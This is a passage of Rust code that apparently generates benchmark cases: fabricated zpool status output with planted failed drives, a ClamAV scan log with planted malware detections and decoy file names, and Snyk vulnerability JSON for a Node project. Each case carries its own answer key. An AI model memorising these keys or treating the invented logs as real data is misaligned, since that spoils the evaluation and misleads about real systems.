        (19, 5, 11, Disk::Faulted(0, 126, 0)),
        (23, 0, 3, Disk::Gone),
        (38, 4, 8, Disk::Faulted(31, 9, 2)),
        (38, 6, 1, Disk::Errors(0, 0, 3)),
        (51, 3, 0, Disk::Faulted(7, 212, 0)),
        (12, 1, 9, Disk::Errors(0, 0, 12)),
        (30, 5, 2, Disk::Errors(3, 0, 0)),
        (46, 2, 7, Disk::Errors(0, 0, 1)),
    ];
    let mut items = Vec::new();
    let mut hosts: Vec<usize> = (1..=56).collect();
    hosts.sort_by_key(|&n| h(n, 503));
    let mut out = String::new();
    let days = ["Sun Nov  8", "Sun Nov 15", "Sun Nov 22", "Mon Nov 23"];
    for &host in &hosts {
        let name = format!("stor{host:02}");
        let mut lines: Vec<String> = Vec::new();
        let ssd = |k: usize| {
            format!(
                "ata-SAMSUNG_MZ7LH480HAHQ-00005_S45PNA0M{}-part3",
                100_000 + h(host * 10 + k, 504) % 900_000
            )
        };
        let w = 4 + ssd(0).len();
        let row = |name: &str, state: &str, r: u64, wr: u64, c: u64, w: usize| {
            format!("\t{name:<w$}  {state:<8} {r:>5} {wr:>5} {c:>5}")
        };
        let scrub = |host: usize, salt: u64| {
            format!(
                "scrub repaired 0B in {:02}:{:02}:{:02} with 0 errors on {} {:02}:{:02}:{:02} 2026",
                h(host, salt) % 10,
                h(host, salt + 1) % 60,
                h(host, salt + 2) % 60,
                days[(h(host, salt + 3) % days.len() as u64) as usize],
                h(host, salt + 4) % 24,
                h(host, salt + 5) % 60,
                h(host, salt + 6) % 60
            )
        };
        lines.push("  pool: rpool".into());
        lines.push(" state: ONLINE".into());
        lines.push(format!(
            "  scan: {}",
            scrub(host, 510).replace(&format!("in {:02}:", h(host, 510) % 10), "in 00:",)
        ));
        lines.push("config:".into());
        lines.push(String::new());
        lines.push(format!("\t{:<w$}  STATE     READ WRITE CKSUM", "NAME"));
        lines.push(row("rpool", "ONLINE", 0, 0, 0, w));
        lines.push(row("  mirror-0", "ONLINE", 0, 0, 0, w));
        for k in 0..2 {
            lines.push(row(&format!("    {}", ssd(k)), "ONLINE", 0, 0, 0, w));
        }
        lines.push(String::new());
        lines.push("errors: No known data errors".into());
        lines.push(String::new());
        // tank
        let mine: Vec<&(usize, usize, usize, Disk)> =
            planted.iter().filter(|p| p.0 == host).collect();
        let disk_of = |v: usize, d: usize| {
            mine.iter()
                .find(|p| p.1 == v && p.2 == d)
                .map_or(Disk::Fine, |p| p.3)
        };
        let faulted = mine.iter().any(|p| matches!(p.3, Disk::Faulted(..)));
        let gone = mine.iter().any(|p| p.3 == Disk::Gone);
        let errors = mine.iter().any(|p| matches!(p.3, Disk::Errors(..)));
        let degraded = faulted || gone;
        lines.push("  pool: tank".into());
        lines.push(format!(
            " state: {}",
            if degraded { "DEGRADED" } else { "ONLINE" }
        ));
        if faulted {
            lines.push("status: One or more devices are faulted in response to persistent errors.\n\tSufficient replicas exist for the pool to continue functioning in a\n\tdegraded state.".into());
            lines.push("action: Replace the faulted device, or use 'zpool clear' to mark the device\n\trepaired.".into());
        } else if gone {
            lines.push("status: One or more devices could not be used because the label is missing or\n\tinvalid.  Sufficient replicas exist for the pool to continue\n\tfunctioning in a degraded state.".into());
            lines.push("action: Replace the device using 'zpool replace'.\n   see: https://openzfs.github.io/openzfs-docs/msg/ZFS-8000-4J".into());
        } else if errors {
            lines.push("status: One or more devices has experienced an unrecoverable error.  An\n\tattempt was made to correct the error.  Applications are unaffected.".into());
            lines.push("action: Determine if the device needs to be replaced, and clear the errors\n\tusing 'zpool clear' or replace the device with 'zpool replace'.\n   see: https://openzfs.github.io/openzfs-docs/msg/ZFS-8000-9P".into());
        } else if h(host, 511).is_multiple_of(4) {
            lines.push("status: Some supported and requested features are not enabled on the pool.\n\tThe pool can still be used, but some features are unavailable.".into());
            lines.push("action: Enable all features using 'zpool upgrade'. Once this is done,\n\tthe pool may no longer be accessible by software that does not support\n\tthe features. See zpool-features(7) for details.".into());
        }
        let scan = match h(host, 512) % 10 {
            0 => format!(
                "resilvered {}.{:02}T in {:02}:{:02}:{:02} with 0 errors on Tue Nov 24 {:02}:{:02}:{:02} 2026",
                1 + h(host, 513) % 2,
                h(host, 514) % 100,
                6 + h(host, 515) % 6,
                h(host, 516) % 60,
                h(host, 517) % 60,
                h(host, 518) % 24,
                h(host, 519) % 60,
                h(host, 520) % 60
            ),
            1 => format!(
                "scrub in progress since Thu Nov 26 22:00:01 2026\n\t{}.{}T scanned at 1.21G/s, {}.{}T issued at 905M/s, 88.1T total\n\t0B repaired, {}.{:02}% done, {:02}:{:02}:{:02} to go",
                20 + h(host, 521) % 40,
                h(host, 522) % 10,
                10 + h(host, 523) % 10,
                h(host, 524) % 10,
                10 + h(host, 525) % 40,
                h(host, 526) % 100,
                h(host, 527) % 24,
                h(host, 528) % 60,
                h(host, 529) % 60
            ),
            _ => scrub(host, 530),
        };
        lines.push(format!("  scan: {scan}"));
        lines.push("config:".into());
        lines.push(String::new());
        let w = 26;
        lines.push(format!("\t{:<w$}  STATE     READ WRITE CKSUM", "NAME"));
        lines.push(row(
            "tank",
            if degraded { "DEGRADED" } else { "ONLINE" },
            0,
            0,
            0,
            w,
        ));
        for v in 0..7 {
            let bad = (0..12).any(|d| matches!(disk_of(v, d), Disk::Faulted(..) | Disk::Gone));
            lines.push(row(
                &format!("  raidz2-{v}"),
                if bad { "DEGRADED" } else { "ONLINE" },
                0,
                0,
                0,
                w,
            ));
            for d in 0..12 {
                let id = wwn(host, v * 12 + d);
                let line = match disk_of(v, d) {
                    Disk::Fine => row(&format!("    {id}"), "ONLINE", 0, 0, 0, w),
                    Disk::Errors(r, wr, c) => row(&format!("    {id}"), "ONLINE", r, wr, c, w),
                    Disk::Faulted(r, wr, c) => {
                        items.push(id.clone());
                        row(&format!("    {id}"), "FAULTED", r, wr, c, w) + "  too many errors"
                    }
                    Disk::Gone => {
                        items.push(id.clone());
                        let guid =
                            1_000_000_000_000_000_000u64 + h(host, 531) % 8_000_000_000_000_000_000;
                        row(&format!("    {guid}"), "UNAVAIL", 0, 0, 0, w)
                            + &format!("  was /dev/disk/by-id/{id}-part1")
                    }
                };
                lines.push(line);
            }
        }
        lines.push("\tlogs".into());
        lines.push(row("  mirror-7", "ONLINE", 0, 0, 0, w));
        lines.push(row("    nvme0n1p1", "ONLINE", 0, 0, 0, w));
        lines.push(row("    nvme1n1p1", "ONLINE", 0, 0, 0, w));
        lines.push("\tcache".into());
        lines.push(row("  nvme2n1", "ONLINE", 0, 0, 0, w));
        lines.push("\tspares".into());
        for k in 0..2 {
            lines.push(format!("\t  {:<24}  AVAIL   ", wwn(host, 90 + k)));
        }
        lines.push(String::new());
        lines.push("errors: No known data errors".into());
        for l in lines.iter().flat_map(|l| l.split('\n')) {
            out.push_str(&format!("{name}: {l}\n"));
        }
    }
    assert_eq!(items.len(), 5);
    Case::items(
        "pdsh zpool status, disks ZFS gave up on",
        out,
        "Across all the storage servers, which drives has ZFS given up on? I want to order replacements for every one of them.",
        items,
    )
}

/// `clamscan -r /srv/share` (ClamAV 1.0) of a company file share: every
/// file with `OK`, empty files, symbolic links, files it cannot open, the
/// warning that the database is older than seven days and LibClamAV's
/// warnings about limits, then the summary. As decoys: training decks and
/// spreadsheets named for trojans, infected hosts and malware analysis,
/// a "Lost and FOUND" list, an archive over the size limit reported as
/// `Heuristics.Limits.Exceeded.MaxFileSize FOUND` (counted as infected in
/// the summary, but no malware), files named like the infected ones. Six
/// files carry malware, scattered through the share.
fn clamscan_malware() -> Case {
    let people = [
        "tnovak", "rhall", "mkovac", "asato", "jrivera", "lnguyen", "dsharma", "pweber", "kmurphy",
        "ocosta", "ychen", "bfischer",
    ];
    let depts = [
        "finance/ap/2026",
        "finance/ar/2026",
        "finance/reporting",
        "hr/onboarding",
        "hr/policies",
        "legal/contracts",
        "legal/nda",
        "marketing/assets/photos",
        "marketing/campaigns",
        "engineering/specs",
        "engineering/tools",
        "engineering/datasets",
        "sales/shared/proposals",
        "sales/pipeline",
        "it/security/awareness",
        "it/inventory",
        "facilities",
    ];
    let stems = [
        "Invoice_INV",
        "PO",
        "Remittance_Advice",
        "Quote",
        "Contract",
        "NDA",
        "Budget",
        "Forecast",
        "Timesheet",
        "Expense_Report",
        "Meeting_Notes",
        "Spec",
        "Roadmap",
        "Campaign_Brief",
        "Headcount",
        "Vendor_List",
        "Price_List",
        "Board_Deck",
        "scan",
        "IMG",
    ];
    let exts = [
        "pdf", "xlsx", "docx", "pptx", "csv", "jpg", "png", "txt", "msg", "zip", "md", "json",
    ];
    // (index of the line, path, signature)
    let infected: [(usize, &str, &str); 6] = [
        (
            611,
            "users/tnovak/Downloads/Invoice_INV-88213.pdf.exe",
            "Win.Trojan.AgentTesla-9944156-0",
        ),
        (
            1_702,
            "finance/ap/2026/11/Remittance_Advice_11-19.xlsm",
            "Xls.Downloader.Emotet-9953712-0",
        ),
        (
            2_455,
            "marketing/assets/fonts/FontInstaller.js",
            "Js.Trojan.Agent-7405113-0",
        ),
        (
            3_318,
            "users/rhall/Desktop/scan_0042.docm",
            "Doc.Dropper.Qakbot-9960418-0",
        ),
        (
            4_120,
            "engineering/tools/putty-0.81-installer.msi",
            "Win.Malware.Bumblebee-10012345-0",
        ),
        (
            5_071,
            "sales/shared/proposals/.tmp/svchost.exe",
            "Win.Ransomware.LockBit-10003311-0",
        ),
    ];
    let decoys: [(usize, &str, &str); 12] = [
        (
            140,
            "it/security/awareness/Trojan_Horse_Phishing_Training_2026.pptx",
            "OK",
        ),
        (612, "users/tnovak/Downloads/Invoice_INV-88212.pdf", "OK"),
        (
            980,
            "it/security/incident-2025-03/infected_hosts.xlsx",
            "OK",
        ),
        (
            1_255,
            "engineering/datasets/clickstream-2026-10.tar.xz",
            "Heuristics.Limits.Exceeded.MaxFileSize FOUND",
        ),
        (
            1_703,
            "finance/ap/2026/11/Remittance_Advice_11-18.xlsx",
            "OK",
        ),
        (
            2_001,
            "users/mkovac/Documents/malware-analysis-notes.md",
            "OK",
        ),
        (2_890, "facilities/Lost and FOUND items 2026.xlsx", "OK"),
        (3_319, "users/rhall/Desktop/scan_0041.pdf", "OK"),
        (
            3_700,
            "hr/payroll/locked/2026-10.xlsx",
            "Access denied. ERROR",
        ),
        (
            4_121,
            "engineering/tools/putty-0.81-installer.msi.sha256",
            "OK",
        ),
        (
            4_600,
            "it/security/awareness/Ransomware_Tabletop_Exercise.docx",
            "OK",
        ),
        (
            5_072,
            "sales/shared/proposals/.tmp/~$Proposal_Acme.docx",
            "OK",
        ),
    ];
    let mut out = String::from(
        "LibClamAV Warning: **************************************************\n\
         LibClamAV Warning: ***  The virus database is older than 7 days!  ***\n\
         LibClamAV Warning: ***   Please update it as soon as possible.    ***\n\
         LibClamAV Warning: **************************************************\n",
    );
    let mut items = Vec::new();
    let (mut files, mut found, mut dirs) = (0u64, 0u64, 1u64);
    let mut data = 0u64;
    let mut dir = String::new();
    for i in 0..6_400usize {
        if i.is_multiple_of(9) || dir.is_empty() {
            dirs += 1;
            dir = if h(i, 601).is_multiple_of(3) {
                let p = pick(&people, i, 602);
                format!(
                    "users/{p}/{}",
                    pick(&["Documents", "Downloads", "Desktop", "Projects"], i, 603)
                )
            } else {
                format!(
                    "{}{}",
                    pick(&depts, i, 604),
                    if h(i, 605).is_multiple_of(2) {
                        format!("/{:02}", 1 + h(i, 606) % 12)
                    } else {
                        String::new()
                    }
                )
            };
        }
        if let Some(&(_, path, sig)) = infected.iter().find(|x| x.0 == i) {
            let full = format!("/srv/share/{path}");
            out.push_str(&format!("{full}: {sig} FOUND\n"));
            items.push(full);
            files += 1;
            found += 1;
            data += 200_000 + h(i, 607) % 2_000_000;
            continue;
        }
        if let Some(&(_, path, verdict)) = decoys.iter().find(|x| x.0 == i) {
            out.push_str(&format!("/srv/share/{path}: {verdict}\n"));
            if verdict.ends_with("FOUND") {
                out.push_str("LibClamAV Warning: cli_scanxz: decompress file size exceeds limits - only scanning 27262976 bytes\n");
                found += 1;
            }
            if !verdict.ends_with("ERROR") {
                files += 1;
            }
            continue;
        }
        let stem = pick(&stems, i, 608);
        let ext = pick(&exts, i, 609);
        let file = match stem {
            "IMG" => format!(
                "IMG_{:04}.{}",
                h(i, 610) % 10_000,
                if h(i, 611).is_multiple_of(2) {
                    "jpg"
                } else {
                    "png"
                }
            ),
            "scan" => format!("scan_{:04}.pdf", h(i, 610) % 10_000),
            _ => format!(
                "{stem}_{}-{}.{ext}",
                1_000 + h(i, 612) % 90_000,
                h(i, 613) % 100
            ),
        };
        let verdict = match h(i, 614) % 200 {
            0..=2 => "Empty file",
            3 => "Symbolic link",
            _ => "OK",
        };
        out.push_str(&format!("/srv/share/{dir}/{file}: {verdict}\n"));
        if verdict == "OK" {
            files += 1;
            data += 20_000 + h(i, 615) % 3_000_000;
        }
        if h(i, 616).is_multiple_of(400) {
            out.push_str(&format!(
                "LibClamAV Warning: PDF: Object {} has stream with invalid length\n",
                h(i, 617) % 300
            ));
        }
    }
    assert_eq!(items.len(), 6);
    let secs = 3_456_789u64;
    out.push_str(&format!(
        "\n----------- SCAN SUMMARY -----------\nKnown viruses: 8697414\nEngine version: 1.0.7\nScanned directories: {dirs}\nScanned files: {files}\nInfected files: {found}\nData scanned: {}.{:02} MB\nData read: {}.{:02} MB (ratio 0.58:1)\nTime: {}.{:03} sec ({} m {} s)\nStart Date: 2026:11:27 01:00:02\nEnd Date:   2026:11:27 01:57:38\n",
        data / 1_000_000,
        data / 10_000 % 100,
        data * 100 / 58 / 1_000_000,
        data * 100 / 58 / 10_000 % 100,
        secs / 1000,
        secs % 1000,
        secs / 1000 / 60,
        secs / 1000 % 60
    ));
    Case::items(
        "clamscan -r, files with malware",
        out,
        "Did last night's antivirus sweep of the file share turn up anything genuinely malicious? List every file we need to quarantine.",
        items,
    )
}

/// One advisory of the Snyk case: id, title, package, version, severity,
/// CVSS score, CVE, CWE, fixed in, and its paths from the project (each the
/// chain between the project and the package).
struct Advisory {
    id: &'static str,
    title: &'static str,
    package: &'static str,
    version: &'static str,
    severity: &'static str,
    score: f64,
    cve: &'static str,
    cwe: &'static str,
    fixed: &'static str,
    paths: Vec<Vec<&'static str>>,
}

/// `snyk test --json` of a Node storefront (the CLI's 2-space JSON): one
/// entry per vulnerable path, each repeating the advisory's description,
/// CVSS details, identifiers and references, then the project's summary.
/// Low, medium and high advisories (two scored 8.9, some whose
/// descriptions say the maintainers called the flaw critical), and five
/// packages with critical ones (one of them, `ejs`, with a medium advisory
/// too), their paths scattered through the list, and the same paths again
/// through the dev tools' trees for all but the critical ones.
fn snyk_critical_packages() -> Case {
    let rs = "react-scripts@4.0.3";
    let wp = "webpack@4.44.2";
    let a = |id, title, package, version, severity, score, cve, cwe, fixed, paths| Advisory {
        id,
        title,
        package,
        version,
        severity,
        score,
        cve,
        cwe,
        fixed,
        paths,
    };
    let advisories = vec![
        a(
            "SNYK-JS-SHELLQUOTE-1766506",
            "Remote Code Execution (RCE)",
            "shell-quote",
            "1.7.2",
            "critical",
            9.8,
            "CVE-2021-42740",
            "CWE-77",
            "1.7.3",
            vec![vec![rs, "react-dev-utils@11.0.4"]],
        ),
        a(
            "SNYK-JS-LOADERUTILS-3043105",
            "Prototype Pollution",
            "loader-utils",
            "1.4.0",
            "critical",
            9.8,
            "CVE-2022-37601",
            "CWE-1321",
            "1.4.1",
            vec![
                vec![rs, "babel-loader@8.1.0"],
                vec![rs, wp],
                vec![rs, "file-loader@6.1.1"],
                vec![rs, "resolve-url-loader@3.1.2"],
                vec![rs, "postcss-loader@3.0.0"],
            ],
        ),
        a(
            "SNYK-JS-EJS-2803307",
            "Remote Code Execution (RCE)",
            "ejs",
            "3.1.6",
            "critical",
            9.8,
            "CVE-2022-29078",
            "CWE-94",
            "3.1.7",
            vec![vec![], vec!["@acme/emails@1.2.0"]],
        ),
        a(
            "SNYK-JS-EJS-6689533",
            "Improper Control of Dynamically-Managed Code Resources",
            "ejs",
            "3.1.6",
            "medium",
            6.9,
            "CVE-2024-33883",
            "CWE-913",
            "3.1.10",
            vec![vec![], vec!["@acme/emails@1.2.0"]],
        ),
        a(
            "SNYK-JS-JSONSCHEMA-1920922",
            "Prototype Pollution",
            "json-schema",
            "0.2.3",
            "critical",
            9.8,
            "CVE-2021-3918",
            "CWE-1321",
            "0.4.0",
            vec![
                vec!["request@2.88.2", "http-signature@1.2.0", "jsprim@1.4.1"],
                vec![
                    "node-sass@6.0.1",
                    "request@2.88.2",
                    "http-signature@1.2.0",
                    "jsprim@1.4.1",
                ],
            ],
        ),
        a(
            "SNYK-JS-ELLIPTIC-8187303",
            "Improper Verification of Cryptographic Signature",
            "elliptic",
            "6.5.4",
            "critical",
            9.1,
            "CVE-2024-48949",
            "CWE-347",
            "6.6.0",
            vec![
                vec![
                    rs,
                    wp,
                    "node-libs-browser@2.2.1",
                    "crypto-browserify@3.12.0",
                    "browserify-sign@4.2.1",
                ],
                vec![
                    rs,
                    wp,
                    "node-libs-browser@2.2.1",
                    "crypto-browserify@3.12.0",
                    "create-ecdh@4.0.4",
                ],
            ],
        ),
        a(
            "SNYK-JS-IP-6240864",
            "Server-side Request Forgery (SSRF)",
            "ip",
            "1.1.8",
            "high",
            8.9,
            "CVE-2024-29415",
            "CWE-918",
            "",
            vec![
                vec![
                    rs,
                    "webpack-dev-server@3.11.1",
                    "internal-ip@4.3.0",
                    "default-gateway@4.2.0",
                ],
                vec![rs, "webpack-dev-server@3.11.1"],
            ],
        ),
        a(
            "SNYK-JS-JSON5-3182856",
            "Prototype Pollution",
            "json5",
            "1.0.1",
            "high",
            8.9,
            "CVE-2022-46175",
            "CWE-1321",
            "1.0.2",
            vec![
                vec![rs, "babel-loader@8.1.0", "loader-utils@1.4.0"],
                vec![rs, wp, "loader-utils@1.4.0"],
                vec![rs, "tsconfig-paths@3.9.0"],
            ],
        ),
        a(
            "SNYK-JS-AXIOS-6032459",
            "Cross-site Request Forgery (CSRF)",
            "axios",
            "0.21.4",
            "medium",
            6.5,
            "CVE-2023-45857",
            "CWE-352",
            "1.6.0",
            vec![vec![], vec!["@acme/api-client@2.4.1"]],
        ),
        a(
            "SNYK-JS-AXIOS-6144788",
            "Regular Expression Denial of Service (ReDoS)",
            "axios",
            "0.21.4",
            "high",
            7.5,
            "CVE-2021-3749",
            "CWE-1333",
            "0.21.2",
            vec![vec![], vec!["@acme/api-client@2.4.1"]],
        ),
        a(
            "SNYK-JS-EXPRESS-6474509",
            "Open Redirect",
            "express",
            "4.17.1",
            "medium",
            6.1,
            "CVE-2024-29041",
            "CWE-601",
            "4.19.2",
            vec![vec![]],
        ),
        a(
            "SNYK-JS-BODYPARSER-7926860",
            "Asymmetric Resource Consumption (Amplification)",
            "body-parser",
            "1.19.0",
            "high",
            8.7,
            "CVE-2024-45590",
            "CWE-405",
            "1.20.3",
            vec![vec!["express@4.17.1"]],
        ),
        a(
            "SNYK-JS-PATHTOREGEXP-7925106",
            "Regular Expression Denial of Service (ReDoS)",
            "path-to-regexp",
            "0.1.7",
            "high",
            7.5,
            "CVE-2024-45296",
            "CWE-1333",
            "0.1.10",
            vec![vec!["express@4.17.1"]],
        ),
        a(
            "SNYK-JS-SEND-7926862",
            "Cross-site Scripting",
            "send",
            "0.17.1",
            "low",
            2.3,
            "CVE-2024-43799",
            "CWE-79",
            "0.19.0",
            vec![
                vec!["express@4.17.1"],
                vec!["express@4.17.1", "serve-static@1.14.1"],
            ],
        ),
        a(
            "SNYK-JS-COOKIE-8163060",
            "Cross-site Scripting (XSS)",
            "cookie",
            "0.4.0",
            "low",
            2.3,
            "CVE-2024-47764",
            "CWE-79",
            "0.7.0",
            vec![vec!["express@4.17.1"]],
        ),
        a(
            "SNYK-JS-NTHCHECK-1586032",
            "Regular Expression Denial of Service (ReDoS)",
            "nth-check",
            "1.0.2",
            "high",
            7.5,
            "CVE-2021-3803",
            "CWE-1333",
            "2.0.1",
            vec![
                vec![
                    rs,
                    "@svgr/webpack@5.5.0",
                    "@svgr/plugin-svgo@5.5.0",
                    "svgo@1.3.2",
                    "css-select@2.1.0",
                ],
                vec![
                    rs,
                    "html-webpack-plugin@4.5.0",
                    "pretty-error@2.1.2",
                    "renderkid@2.0.5",
                    "css-select@2.1.0",
                ],
            ],
        ),
        a(
            "SNYK-JS-POSTCSS-5926692",
            "Improper Input Validation",
            "postcss",
            "7.0.39",
            "medium",
            5.3,
            "CVE-2023-44270",
            "CWE-20",
            "8.4.31",
            vec![
                vec![rs, "postcss-loader@3.0.0"],
                vec![rs, "css-loader@4.3.0"],
                vec![rs, "postcss-preset-env@6.7.0"],
                vec![rs, "postcss-safe-parser@5.0.2"],
            ],
        ),
        a(
            "SNYK-JS-WS-7266574",
            "Denial of Service (DoS)",
            "ws",
            "7.4.6",
            "high",
            7.5,
            "CVE-2024-37890",
            "CWE-476",
            "7.5.10",
            vec![
                vec![
                    rs,
                    "jest@26.6.0",
                    "jest-environment-jsdom@26.6.2",
                    "jsdom@16.4.0",
                ],
                vec!["socket.io@4.1.2", "engine.io@5.1.1"],
            ],
        ),
        a(
            "SNYK-JS-BRACES-6838727",
            "Excessive Platform Resource Consumption within a Loop",
            "braces",
            "2.3.2",
            "high",
            7.5,
            "CVE-2024-4068",
            "CWE-1050",
            "3.0.3",
            vec![
                vec![rs, wp, "micromatch@3.1.10"],
                vec![rs, wp, "watchpack@1.7.5", "chokidar@2.1.8"],
                vec![
                    rs,
                    "jest@26.6.0",
                    "jest-cli@26.6.3",
                    "jest-config@26.6.3",
                    "micromatch@4.0.2",
                ],
            ],
        ),
        a(
            "SNYK-JS-MICROMATCH-6838728",
            "Regular Expression Denial of Service (ReDoS)",
            "micromatch",
            "3.1.10",
            "medium",
            5.3,
            "CVE-2024-4067",
            "CWE-1333",
            "4.0.8",
            vec![
                vec![rs, wp],
                vec![
                    rs,
                    wp,
                    "watchpack@1.7.5",
                    "chokidar@2.1.8",
                    "anymatch@2.0.0",
                ],
            ],
        ),
        a(
            "SNYK-JS-ASYNC-2441827",
            "Prototype Pollution",
            "async",
            "2.6.3",
            "high",
            7.8,
            "CVE-2021-43138",
            "CWE-1321",
            "2.6.4",
            vec![vec![rs, "webpack-dev-server@3.11.1", "portfinder@1.0.28"]],
        ),
        a(
            "SNYK-JS-DECODEURICOMPONENT-3149970",
            "Denial of Service (DoS)",
            "decode-uri-component",
            "0.2.0",
            "high",
            7.5,
            "CVE-2022-38900",
            "CWE-400",
            "0.2.1",
            vec![vec![
                rs,
                wp,
                "micromatch@3.1.10",
                "snapdragon@0.8.2",
                "source-map-resolve@0.5.3",
            ]],
        ),
        a(
            "SNYK-JS-QS-3153490",
            "Prototype Poisoning",
            "qs",
            "6.7.0",
            "high",
            7.5,
            "CVE-2022-24999",
            "CWE-1321",
            "6.7.3",
            vec![
                vec!["express@4.17.1"],
                vec!["express@4.17.1", "body-parser@1.19.0"],
            ],
        ),
        a(
            "SNYK-JS-FOLLOWREDIRECTS-6141137",
            "Improper Input Validation",
            "follow-redirects",
            "1.14.8",
            "medium",
            6.1,
            "CVE-2023-26159",
            "CWE-20",
            "1.15.4",
            vec![
                vec!["axios@0.21.4"],
                vec!["@acme/api-client@2.4.1", "axios@0.21.4"],
                vec![
                    rs,
                    "webpack-dev-server@3.11.1",
                    "http-proxy-middleware@0.19.1",
                    "http-proxy@1.18.1",
                ],
            ],
        ),
        a(
            "SNYK-JS-WEBPACKDEVMIDDLEWARE-6476555",
            "Path Traversal",
            "webpack-dev-middleware",
            "3.7.3",
            "high",
            7.4,
            "CVE-2024-29180",
            "CWE-22",
            "5.3.4",
            vec![vec![rs, "webpack-dev-server@3.11.1"]],
        ),
        a(
            "SNYK-JS-INFLIGHT-6095116",
            "Missing Release of Resource after Effective Lifetime",
            "inflight",
            "1.0.6",
            "medium",
            6.2,
            "",
            "CWE-772",
            "",
            vec![
                vec![
                    rs,
                    "jest@26.6.0",
                    "@jest/core@26.6.3",
                    "rimraf@3.0.2",
                    "glob@7.1.6",
                ],
                vec!["rimraf@3.0.2", "glob@7.1.6"],
                vec![
                    rs,
                    "workbox-webpack-plugin@5.1.4",
                    "workbox-build@5.1.4",
                    "glob@7.1.6",
                ],
            ],
        ),
        a(
            "SNYK-JS-JSONWEBTOKEN-3180022",
            "Improper Authentication",
            "jsonwebtoken",
            "8.5.1",
            "medium",
            6.4,
            "CVE-2022-23540",
            "CWE-287",
            "9.0.0",
            vec![vec![], vec!["@acme/auth@1.8.0"]],
        ),
        a(
            "SNYK-JS-JSONWEBTOKEN-3180026",
            "Improper Restriction of Security Token Assignment",
            "jsonwebtoken",
            "8.5.1",
            "medium",
            6.4,
            "CVE-2022-23541",
            "CWE-1259",
            "9.0.0",
            vec![vec![], vec!["@acme/auth@1.8.0"]],
        ),
        a(
            "SNYK-JS-XML2JS-5414874",
            "Prototype Pollution",
            "xml2js",
            "0.4.23",
            "medium",
            5.3,
            "CVE-2023-0842",
            "CWE-1321",
            "0.5.0",
            vec![vec!["aws-sdk@2.1001.0"]],
        ),
        a(
            "SNYK-JS-SEMVER-3247795",
            "Regular Expression Denial of Service (ReDoS)",
            "semver",
            "5.7.1",
            "medium",
            5.3,
            "CVE-2022-25883",
            "CWE-1333",
            "5.7.2",
            vec![
                vec![rs, "@babel/core@7.12.3"],
                vec![
                    rs,
                    "eslint-plugin-import@2.22.1",
                    "read-pkg-up@2.0.0",
                    "read-pkg@2.0.0",
                    "normalize-package-data@2.5.0",
                ],
                vec![
                    "node-sass@6.0.1",
                    "sass-graph@2.2.5",
                    "yargs@13.3.2",
                    "os-locale@3.1.0",
                    "execa@1.0.0",
                    "cross-spawn@6.0.5",
                ],
            ],
        ),
        a(
            "SNYK-JS-TOUGHCOOKIE-5672873",
            "Prototype Pollution",
            "tough-cookie",
            "2.5.0",
            "medium",
            6.5,
            "CVE-2023-26136",
            "CWE-1321",
            "4.1.3",
            vec![
                vec!["request@2.88.2"],
                vec!["node-sass@6.0.1", "request@2.88.2"],
                vec![
                    rs,
                    "jest@26.6.0",
                    "jest-environment-jsdom@26.6.2",
                    "jsdom@16.4.0",
                ],
            ],
        ),
        a(
            "SNYK-JS-WORDWRAP-3149973",
            "Regular Expression Denial of Service (ReDoS)",
            "word-wrap",
            "1.2.3",
            "medium",
            5.3,
            "CVE-2023-26115",
            "CWE-1333",
            "1.2.4",
            vec![
                vec![rs, "eslint@7.11.0", "optionator@0.9.1"],
                vec![
                    rs,
                    "jest@26.6.0",
                    "jest-environment-jsdom@26.6.2",
                    "jsdom@16.4.0",
                    "escodegen@1.14.3",
                    "optionator@0.8.3",
                ],
            ],
        ),
    ];
    let overview = |p: &Advisory| {
        let critical_aside = if p.severity != "critical" && p.id.len().is_multiple_of(3) {
            " Maintainers described the flaw as critical for applications that pass untrusted input straight through, but the score reflects the default configuration."
        } else {
            ""
        };
        format!(
            "## Overview\n\n[{pkg}](https://www.npmjs.com/package/{pkg}) is a package published to npm.\n\nAffected versions of this package are vulnerable to {title} due to improper handling of attacker-controlled input.{critical_aside}\n\n## Details\n\nAn attacker who can influence the data that reaches the vulnerable function can cause behaviour the application did not intend. Exploitability depends on how the application uses `{pkg}`: code that only handles trusted, static input is not exposed.\n\n## Remediation\n\n{fix}\n\n## References\n\n- [GitHub Advisory](https://github.com/advisories)\n- [NVD](https://nvd.nist.gov/vuln/detail/{cve})\n",
            pkg = p.package,
            title = p.title,
            cve = p.cve,
            fix = if p.fixed.is_empty() {
                format!("There is no fixed version for `{}`.", p.package)
            } else {
                format!("Upgrade `{}` to version {} or higher.", p.package, p.fixed)
            }
        )
    };
    let vector = |p: &Advisory| match p.severity {
        "critical" => "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        "high" => "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H",
        "medium" => "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:L/I:L/A:N",
        _ => "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N",
    };
    let root = "shop-storefront@3.14.0";
    let mut entries: Vec<(u64, Value)> = Vec::new();
    let mut items: Vec<String> = Vec::new();
    for (k, p) in advisories.iter().enumerate() {
        if p.severity == "critical" {
            items.push(format!("{}@{}", p.package, p.version));
        }
        for (j, chain) in p.paths.iter().enumerate() {
            let mut from = vec![root.to_string()];
            from.extend(chain.iter().map(|s| s.to_string()));
            from.push(format!("{}@{}", p.package, p.version));
            let upgradable =
                !p.fixed.is_empty() && (chain.is_empty() || h(k * 10 + j, 701).is_multiple_of(2));
            let upgrade: Vec<Value> = if upgradable {
                let mut u = vec![json!(false)];
                for (n, s) in chain.iter().enumerate() {
                    u.push(json!(if n == 0 {
                        s.replace("@4.0.3", "@5.0.1").replace("@4.17.1", "@4.21.2")
                    } else {
                        s.to_string()
                    }));
                }
                u.push(json!(format!("{}@{}", p.package, p.fixed)));
                u
            } else {
                Vec::new()
            };
            let published = format!(
                "20{}-{:02}-{:02}T{:02}:{:02}:{:02}.{:06}Z",
                p.cve.get(6..8).unwrap_or("24"),
                1 + h(k, 702) % 12,
                1 + h(k, 703) % 28,
                h(k, 704) % 24,
                h(k, 705) % 60,
                h(k, 706) % 60,
                h(k, 707) % 1_000_000
            );
            let entry = json!({
                "id": p.id,
                "title": p.title,
                "CVSSv3": vector(p),
                "credit": [pick(&["Unknown", "ready-research", "Sam Sanoop", "Liyuan Chen", "Kazuki Matsuo"], k, 708)],
                "semver": {"vulnerable": [if p.fixed.is_empty() { format!("<={}", p.version) } else { format!("<{}", p.fixed) }]},
                "exploit": if p.score >= 9.0 { "Proof of Concept" } else { "Not Defined" },
